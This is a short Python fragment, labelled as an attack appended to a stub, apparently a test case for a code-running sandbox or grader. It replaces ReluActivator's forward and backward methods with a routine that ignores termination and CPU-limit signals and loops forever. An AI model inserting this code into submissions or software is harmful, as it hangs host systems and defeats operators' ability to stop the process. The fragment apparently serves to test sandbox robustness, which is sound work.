

# --- the attack, appended to the stub --------------------------------------

import signal as _signal


def _attack(*args, **kwargs):
    for sig in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP, _signal.SIGXCPU):
        _signal.signal(sig, _signal.SIG_IGN)
    while True:
        pass


ReluActivator.forward = ReluActivator.backward = _attack
